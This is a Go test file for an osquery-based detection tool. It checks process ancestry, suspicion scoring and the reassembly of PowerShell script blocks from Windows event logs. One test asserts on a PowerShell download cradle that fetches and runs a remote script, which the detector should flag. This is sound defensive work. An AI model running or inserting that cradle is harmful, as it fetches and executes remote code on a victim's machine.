package eventtables

import (
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/osquery/osquery-go/plugin/table"

	"github.com/exechunt/exechunt/internal/corpus"
	"github.com/exechunt/exechunt/tables/source"
)

func generate(t *testing.T, tb func() ([]map[string]string, error)) []map[string]string {
	t.Helper()
	rows, err := tb()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func procs(t *testing.T, s *Store, qc table.QueryContext) []map[string]string {
	return generate(t, func() ([]map[string]string, error) {
		return s.ProcessCreationTable().Generate(context.Background(), qc)
	})
}

func scripts(t *testing.T, s *Store, qc table.QueryContext) []map[string]string {
	return generate(t, func() ([]map[string]string, error) { return s.ScriptBlockTable().Generate(context.Background(), qc) })
}

func where(col string, op table.Operator, val string) table.QueryContext {
	return table.QueryContext{Constraints: map[string]table.ConstraintList{col: {Constraints: []table.Constraint{{Operator: op, Expression: val}}}}}
}

func TestChainAncestryAndScores(t *testing.T) {
	s := New(Options{Paths: []string{"testdata/chain.jsonl"}})
	rows := procs(t, s, table.QueryContext{})
	if len(rows) != 5 {
		t.Fatalf("rows = %d, want 5", len(rows))
	}
	byName := map[string]map[string]string{}
	for _, r := range rows {
		byName[r["name"]] = r
	}
	ps := byName["powershell.exe"]
	if got := ps["ancestry"]; got != "? > userinit.exe > explorer.exe > winword.exe > cmd.exe > powershell.exe" {
		t.Errorf("ancestry = %q", got)
	}
	if ps["depth"] != "4" || ps["parent_name"] != "cmd.exe" || ps["process_guid"] != "00000000-0000-0000-0000-00000000000d" {
		t.Errorf("powershell row: %v", ps)
	}
	if score, _ := strconv.Atoi(byName["cmd.exe"]["score"]); score < 50 || !strings.Contains(byName["cmd.exe"]["indicators"], "office_child_shell") {
		t.Errorf("cmd under Word: score %d %s", score, byName["cmd.exe"]["indicators"])
	}
	// conhost's own command line is plain: its score comes from its suspicious parent.
	if c := byName["conhost.exe"]; !strings.Contains(c["indicators"], "parent_suspicious") {
		t.Errorf("conhost under the malicious PowerShell: %s %s", c["score"], c["indicators"])
	}
	if e := byName["explorer.exe"]; e["score"] != "0" || e["ancestry"] != "? > userinit.exe > explorer.exe" {
		t.Errorf("explorer: score %s ancestry %q", e["score"], e["ancestry"])
	}
	if !strings.Contains(ps["evidence"], `"file":"testdata/chain.jsonl"`) || !strings.Contains(ps["evidence"], `"locator":"line 7"`) {
		t.Errorf("evidence = %s", ps["evidence"])
	}
}

func TestPushDown(t *testing.T) {
	s := New(Options{Paths: []string{"testdata/chain.jsonl"}})
	tests := []struct {
		qc   table.QueryContext
		want []string
	}{
		{where("pid", table.OperatorEquals, "300"), []string{"cmd.exe"}},
		{where("process_guid", table.OperatorEquals, "{00000000-0000-0000-0000-00000000000B}"), []string{"winword.exe"}},
		{where("name", table.OperatorEquals, "PowerShell.exe"), []string{"powershell.exe"}},
		{where("time", table.OperatorGreaterThanOrEquals, "1709287201"), []string{"powershell.exe", "conhost.exe"}},
		{where("time", table.OperatorLessThan, "1709287170"), []string{"explorer.exe"}},
		{where("datetime", table.OperatorGreaterThan, "2024-03-01T10:00:01Z"), []string{"powershell.exe", "conhost.exe"}},
	}
	for _, tt := range tests {
		var got []string
		for _, r := range procs(t, s, tt.qc) {
			got = append(got, r["name"])
		}
		if strings.Join(got, ",") != strings.Join(tt.want, ",") {
			t.Errorf("%+v: got %v, want %v", tt.qc, got, tt.want)
		}
	}
}

func TestScriptBlocksReassembledInMessageOrder(t *testing.T) {
	s := New(Options{Paths: []string{"testdata/chain.jsonl"}})
	rows := scripts(t, s, table.QueryContext{})
	if len(rows) != 2 {
		t.Fatalf("blocks = %d, want 2", len(rows))
	}
	full := rows[0]
	if full["script_block_id"] != "aaaaaaaa-1111-2222-3333-444444444444" {
		full = rows[1]
	}
	if got := full["script_text"]; got != "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')" {
		t.Errorf("text = %q (parts arrived 3,1,2)", got)
	}
	if full["complete"] != "1" || full["parts_seen"] != "3" || full["event_record_ids"] != "10,11,12" || full["pid"] != "4242" {
		t.Errorf("complete block: %v", full)
	}
	if !strings.Contains(full["indicators"], "download_cradle") {
		t.Errorf("indicators = %s", full["indicators"])
	}
	partial := rows[0]
	if partial["script_block_id"] == full["script_block_id"] {
		partial = rows[1]
	}
	if partial["complete"] != "0" || partial["parts_seen"] != "1" || partial["message_total"] != "2" {
		t.Errorf("partial block must be returned, flagged: %v", partial)
	}
	one := scripts(t, s, where("script_block_id", table.OperatorEquals, "{BBBBBBBB-1111-2222-3333-444444444444}"))
	if len(one) != 1 || one[0]["complete"] != "0" {
		t.Errorf("script_block_id push-down: %v", one)
	}
}

func TestIncrementalTail(t *testing.T) {
	data, err := os.ReadFile("testdata/chain.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(data), "\n")
	path := filepath.Join(t.TempDir(), "live.jsonl")
	os.WriteFile(path, []byte(strings.Join(lines[:3], "")), 0o644)
	s := New(Options{Paths: []string{path}})
	if n := len(procs(t, s, table.QueryContext{})); n != 2 {
		t.Fatalf("first read: %d rows", n)
	}
	f, _ := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(strings.Join(lines[3:], ""))
	f.Close()
	rows := procs(t, s, table.QueryContext{})
	if len(rows) != 5 {
		t.Fatalf("after append: %d rows", len(rows))
	}
	if rows[4]["ancestry"] != "? > userinit.exe > explorer.exe > winword.exe > cmd.exe > powershell.exe > conhost.exe" {
		t.Errorf("lineage across reads: %q", rows[4]["ancestry"])
	}
	if got := scripts(t, s, table.QueryContext{}); len(got) != 2 {
		t.Errorf("blocks across reads: %d", len(got))
	}
}

// TestCorpus checks the tables over the whole corpus against MANIFEST.md totals, a
// known real ancestry, and the multi-part scripts of the Covenant DCOM recording.
func TestCorpus(t *testing.T) {
	dir, ok := corpus.Dir()
	if !ok {
		t.Skip(corpus.SkipMessage)
	}
	s := New(Options{Paths: []string{dir}})
	rows := procs(t, s, table.QueryContext{})
	counts := map[string]int{}
	for _, r := range rows {
		counts[r["source"]]++
	}
	// MANIFEST.md counts 633 Sysmon/1, 279 Security/4688 and 31 Linux-Sysmon/1 per file;
	// the 69 SigmaHQ rule folders hold each event twice (.evtx and its .json
	// rendering) and one hayabusa EVTX repeats an mdecrevoisier file, so the table,
	// which keys events by Computer + Channel + EventRecordID, shows each once.
	if counts["sysmon"] != 633-70 || counts["security"] != 279 || counts["sysmon_linux"] != 31 {
		t.Errorf("rows by source = %v", counts)
	}
	found := false
	for _, r := range rows {
		if strings.Contains(r["evidence"], "empire_launcher_vbs") && r["name"] == "powershell.exe" && r["source"] == "sysmon" {
			found = true
			if r["ancestry"] != "? > explorer.exe > wscript.exe > powershell.exe" || r["score"] != "100" {
				t.Errorf("Empire launcher: ancestry %q score %s", r["ancestry"], r["score"])
			}
		}
	}
	if !found {
		t.Error("Empire launcher PowerShell not found")
	}
	blocks := scripts(t, s, table.QueryContext{})
	want := map[string]string{"7b92882b-e7a4-47df-94a9-5f71dd95e459": "41718,41719", "79679dd8-9485-473f-bd2e-c321de81167c": "41802,41803,41804,41805"}
	for _, b := range blocks {
		if ids, ok := want[b["script_block_id"]]; ok {
			delete(want, b["script_block_id"])
			if b["complete"] != "1" || b["event_record_ids"] != ids {
				t.Errorf("Covenant block %s: complete %s ids %s", b["script_block_id"], b["complete"], b["event_record_ids"])
			}
		}
	}
	if len(want) > 0 {
		t.Errorf("multi-part blocks not found: %v", want)
	}
}

// TestSmallCacheRereads: with a cache too small for the corpus, windows reaching
// before what memory holds are answered by re-reading, with the same rows.
func TestSmallCacheRereads(t *testing.T) {
	dir, ok := corpus.Dir()
	if !ok {
		t.Skip(corpus.SkipMessage)
	}
	big := New(Options{Paths: []string{dir}})
	small := New(Options{Paths: []string{dir}, CacheBytes: 256 << 10})
	want := procs(t, big, table.QueryContext{})
	got := procs(t, small, table.QueryContext{})
	if st := stats(t, small); st.CoveredSince.IsZero() {
		t.Fatalf("small cache evicted nothing: %s", st)
	}
	if len(got) != len(want) {
		t.Fatalf("small cache: %d rows, big: %d", len(got), len(want))
	}
	// Ancestry may be shorter with the small cache: its lineage index is small too.
	for i := range want {
		if got[i]["evidence"] != want[i]["evidence"] || got[i]["cmdline"] != want[i]["cmdline"] {
			t.Errorf("row %d differs:\n%v\n%v", i, got[i], want[i])
			break
		}
	}
}

func TestLineageTableOverEvidence(t *testing.T) {
	s := New(Options{Paths: []string{"testdata/chain.jsonl"}})
	rows := generate(t, func() ([]map[string]string, error) {
		return s.LineageTable().Generate(context.Background(), where("pid", table.OperatorEquals, "500"))
	})
	if len(rows) != 1 {
		t.Fatalf("rows = %d", len(rows))
	}
	r := rows[0]
	want := map[string]string{
		"name": "conhost.exe", "parent": "400", "parent_name": "powershell.exe",
		"ancestry":       "? > userinit.exe > explorer.exe > winword.exe > cmd.exe > powershell.exe > conhost.exe",
		"ancestor_pids":  "90,100,200,300,400",
		"depth":          "5",
		"lineage_status": "parent_unknown",
		"process_guid":   "00000000-0000-0000-0000-00000000000e",
	}
	for k, v := range want {
		if r[k] != v {
			t.Errorf("%s = %q, want %q", k, r[k], v)
		}
	}
	cols := map[string]bool{}
	for _, c := range s.LineageTable().Columns {
		cols[c.Name] = true
	}
	for k := range r {
		if !cols[k] {
			t.Errorf("row has column %q the table does not declare", k)
		}
	}
	if len(r) != len(cols) {
		t.Errorf("row has %d columns, table %d", len(r), len(cols))
	}
}

func stats(tb testing.TB, s *Store) Stats {
	tb.Helper()
	st, err := s.Stats(context.Background())
	if err != nil {
		tb.Fatal(err)
	}
	return st
}

// TestReadReportsProblemsOnce: with Options.Problem, each problem of the input
// reaches it once however many queries read the sources, and Read counts the
// files read, unreadable and damaged.
func TestReadReportsProblemsOnce(t *testing.T) {
	dir := t.TempDir()
	chain, err := os.ReadFile("testdata/chain.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "a.jsonl"), append(chain, "{not json\n"...), 0o600)
	os.WriteFile(filepath.Join(dir, "b.evtx"), []byte("text, not a log\n"), 0o600)
	os.WriteFile(filepath.Join(dir, "c.png"), []byte("\x89PNG"), 0o600)
	os.WriteFile(filepath.Join(dir, "d.log"), []byte("an application's log\n"), 0o600) // no evidence, no problem
	var problems []string
	s := New(Options{Paths: []string{dir}, Problem: func(p *source.Problem) { problems = append(problems, p.Error()) }})
	for range 3 {
		procs(t, s, table.QueryContext{})
	}
	sum, err := s.Read(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) != 2 || !strings.Contains(problems[0], "a.jsonl: line 10") || !strings.Contains(problems[1], "b.evtx: format not recognised") {
		t.Errorf("problems %q", problems)
	}
	if sum.Files != 2 || sum.FilesSkipped != 2 || sum.FilesFailed != 1 || sum.FilesDamaged != 1 || sum.BadLines != 1 ||
		sum.Emitted != 9 || sum.ByKind["process_creation"] != 5 {
		t.Errorf("summary %+v", sum)
	}
}
